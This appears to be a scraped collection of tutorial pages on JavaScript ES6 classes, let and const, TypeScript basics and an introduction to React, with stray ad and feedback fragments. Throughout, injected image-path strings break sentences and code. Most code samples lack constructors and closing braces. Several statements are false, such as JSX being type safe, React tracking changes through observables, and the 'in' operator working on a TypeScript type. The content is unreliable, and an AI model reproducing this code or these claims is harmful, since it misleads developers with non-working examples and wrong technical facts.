  • This proves that in JavaScript a class is nothing but a constructor function
// example:
class Foo {}
console.log(typeof Foo); // "function"

Class vs Constructor function

  • Below example demonstrates how to achieve the same result using vanilla functions and using new classes
  • You can notice how using class make your code cleaner and less verbose
  • Using class also makes it more intuitive and easier to understand forDeveloper coming from class-based languages like Java and C++

Using Function - ES5 style
var Person = function(name){
this.name = name
var Man = function(name) {
Person.call(this, name)
this.gender = "Male"
Man.prototype = Object.create(Person.prototype)
Man.prototype.constructor = Man
var John = new Man("John")
console.log(John.name) // John
console.log(John.gender) // Male

Student Feedback

HTML To React review

Using Classes - ES6+ Style

class Person {
this.name = name
class Man extends Person {
this.gender = "Male"
var John = new Man("John")
console.log(John.name) // John
console.log(John.gender) // Male

let and const and Block scope

  • let and const keywords were introduced in ES6
  • These two keywords are used to declare JavaScript variables
let myFirstName = "sleeplessyogi"
const myLastName = "Academy"
console.log(myFirstName + myLastName) // "sleeplessyogiAcademy"
  • These two keywords provide Block Scope variables in JavaScript
  • These variables do not hoist like var variables

Remember: using var to declare variables creates a function scope variables• These two keywords lets you avoid IIFE
  • IIFE is used for not polluting global scope
  • But, now you can just use let or const inside a block - {} - which will have same effect


  • let keyword works very much like var keyword except it creates block-scoped variables
  • let keyword is an ideal candidate for loop variables, garbage collection variables

Example of let

  • var x declares a function scope variable which is available throughout the function checkLetKeyword()
  • let x declares a block scope variable which is accessible ONLY inside the if-block
  • So, after the if-block the value of x is again 10
function checkLetKeyword() {
var x = 10
console.log(x) // 10
if(x === 10) {
let x = 20
console.log(x) // 20
console.log(x) // 10


  • const keyword is used to declare a constant in JavaScript
  • Value must be assigned to a constant when you declare it
  • Once assigned - you cannot change its value
const MY_NAME = "sleeplessyogi Academy"
console.log(MY_NAME) // sleeplessyogi AcademyMY_NAME = "JavaScript" // Error: "MY_NAME" is read-only

Tricky const

  • If you defined a constant array using const you can change the elements inside it
  • You cannot assign a different array to it
  • But, you can add or remove elements from it
  • This is because const does NOT define a constant value. It defines a constant reference to a value.
  • Example below:
const MY_GRADES = [1, 2, 3]
MY_GRADES = [4, 4, 4] // Error: "MY_GRADES" is read-only
MY_GRADES.push(4) // [1, 2, 3, 4]

5 Practices to write a secure JavaScript web application

As software programmers, it is our duty to takethe things in our hand and do something about it. Not everyone might be a pro in security and know how hackers work. But, at the very least, we can follow some of the best practices to mitigate such attacks and avoid them as much as possible. And trust me, they work.

So, let's dive into some actionable items that you can follow to make your code more secure in this article.

TypeScript Free Lessons

Get NordVPN Deal

More on TypeScript

  • It is a pure Object oriented language
    • It has classes, interfaces, statically typed
    • Like C## or Java
  • Supports all JS libraries and frameworks
  • Javascript is basically Typescript
    • That means you can rename any valid .js file to .ts
  • TypeScript is aligned with ES6
    • It has all features like modules, classes, etc

Why use TypeScript?

  • It is superior to its counterparts

    • Like Coffeescript and Dart
    • TypeScript extends JavaScript - they do not
    • They are different language altogether• They need language-specific execution env to run
  • It gives compilation errors and syntax errors

  • Strong static typing

  • It supports OOP

    • Classes, interfaces, inheritance, etc.
    • Like Java, c#
  • Reacher code hinting due to its typed nature

  • Automated documentation

    • Due to its typed nature
    • Therefore, good readability
  • No need of custom validation which is clunky for large apps

    • No boilerplate code

Variable scopes• Global scope
    • Declare outside the programming constructs
    • Accessed from anywhere within your code
const name = "sleepless yogi"
function printName() {
  • Class scope
    • Also called fields
    • Accessed using object of class
    • Static fields are also available... accessed using class name
class User {
name = "sleepless yogi"
const yogi = new User()
  • Local scope
    • Declared within methods, loops, etc ..
    • Accessible only withing the construct where they are declared
    • vars are function scoped
    • let are block scoped
for (let i = 0; i < 10; i++) {• Use this to create new type from an existing type T
  • Select subset of properties from type T
  • In the below example we create NewCustomer type by selecting id and name from type Customer
type Customer {
id: string
name: string
age: number
type NewCustomer = Pick<Customer, "id" | "name">
function setCustomer(customer: Customer) {
// logic
setCustomer({ id: "id-1", name: "sleeplessyogi Academy" })
// valid call
setCustomer({ id: "id-1", name: "sleeplessyogi Academy", age: 10 })
// Error: `age` does not exist on type NewCustomer
  • They allow you to check the type of variables
  • You can check it using different operators mentioned below• Checks if the type of the argument is of the expected type
if (typeof x === "number") {
// YES! number logic
else {
// No! not a number logic


  • Checks if the variable is instance of the given object/class
  • This is mostly used with non-primitive objects
class Task {
// class members
class Person {// class members
const myTasks = new Task()
const myPerson = new Person()
console.log(myTasks instanceof Task) // true
console.log(myPerson instanceof Person) // false


  • Allows you to check if property is present in the given type
type Task {
taskId: string
description: string
console.log("taskId" in Task) // true
console.log("dueDate" in Task) // falseStudent Feedback

HTML To React review

ReactJS Free Lessons

Module 1 - Getting started

What is react?

  • It is a UI library developed at Facebook
  • Create interactive, stateful, and reusable components
  • Example:
  • Uses virtual DOM• In short: React selectively renders subtree of DOM based on state changes
  • Server side rendering is available
    • Because fake/virtual DOM can be rendered on server
  • Makes use of Isomorphic JS
    • Same JS code can run on servers and clients...
    • Other egs which does this- Rendr, Meteor & Derby
  • It is the V in MVC


  • Quick, responsive apps
  • Uses virtual dom
  • Does server side rendering
  • One way data binding / Single-Way data flow
  • Open source

WhyReact, Benefits, and Limitations

Why react / Benefits

  • Simple, Easy to learn
  • It is fast, scalable, and simple
  • No need of separate template files JSX!
  • It uses component based approach
    • Separation of concerns
  • No needof direct DOM manipulation
  • Increases app performance

Other Benefits

  • Can be used on client and server side
  • Better readability with JSX
  • Easy to integrate with other frameworks
  • Easy to write UI test cases


  • It is very rapidly evolving
    • Might get difficult to keep up
  • It only covers V of the MVP app.
    • So you still need other tech/frameworks to complete the environment
    • Like Redux, GraphQL, Firebase, etc.
  • Inline HTML and JSX.
    • Can be awkward and confusing for some developers
  • Size of library is quite large

A comprehensive beginner's guide to set up ReactJS

Don’t get me wrong, a solid JavaScript knowledge will make the learning curve easier, but you have to now a bunch of tools in order to set up your workspace and be able to use React in all his glory. The problem withall this set up is that quite a few tutorials out there about React do not explain all that is happening. They either assume that you know all these tools/libraries beforehand, or just some of them, or they just say “hey type this here” and don’t explain what is going on. That’s why this post exists, so you don’t have to deal with all of that, and you can quickly set up, start working with React and understand why do you have to use each library we need.

Module 2 - Basics of React

React JSX

  • It is JavascriptXML• It is used for templating
    • Basically to write HTML in React
  • It lets you write HTML-ish tags in your javascript
  • It's an extension to ECMAScript
    • Which looks like XML
  • You can also use plain JS with React
    • You don't HAVE to use JSX
    • But JSX is recommended
    • JSX makes code more readable and maintainable
  • Ultimately Reacts transforms JSX to JS
    • Performs optimization
  • JXK is type safe
    • so errors are caught at compilation phase
// With JSX
const myelement = <h1>First JSX element!</h1>;
ReactDOM.render(myelement, document.getElementById('root'));

// Without JSX
const myelement = React.createElement('h1', {}, 'no JSX!');
ReactDOM.render(myelement, document.getElementById('root'));

JSX - confusing parts

  • JSX is not JS
    • So won't be handled by browsers directly
    • You need to include React.createElement so that React can understand it
    • We need babel to transpile it// You get to write this JSX
const myDiv = <div>Hello World!</div>
// And Babel will rewrite it to be this:
const myDiv = React.createElement('div', null, 'Hello World')
  • whitespaces
    • React removes spaces by default
    • You specifically give it using {' '}...
    • For adding margin padding
// JSX
const body = (
<!-- JSX - HTML Output -->
  • Children props
    • They are special kind of props
      • You will learn about props more in the following sections
    • Whatever we put between tags is children
    • Received as props.children
<User age={56}>Brad</User>
// Same as
<User age={56} children="Brad" />
  • There are some attribute name changes
    • NOTE: class becomes "className", for becomes "htmlFor"
  • Cannot use if-else inside JSX
    • But you can use ternary!

Virtual DOM

  • This is said to be one of the most important reasons why React app performances is very good• You know that Document Object Model or DOM is the tree representation of the HTML page

Cons of real DOM

  • Updating DOM is a slow and expensive process
    • You have to traverse DOM to find a node and update it
  • Updating in DOM is inefficient
    • Finding what needs to be updated is hard
  • Updating DOM has cascading effects - things need to be recalculated

Enter -> Virtual DOM

  • Virtual DOM is just a JavaScript object that represents the DOM nodes
  • UpdatingJavaScript object is efficient and fast
  • Virtual DOM is the blueprint of theDOM - the actual building
  • React listens to the changes via observables to find out which components changed and need to be updated


  • Please check the illustration above
  • When an update occurs in your React app - the entireVirtual DOM is recreated• This happens super fast
  • React then checks the difference between the previous virtual DOM and the new updated virtual DOM
  • This process is called diffing
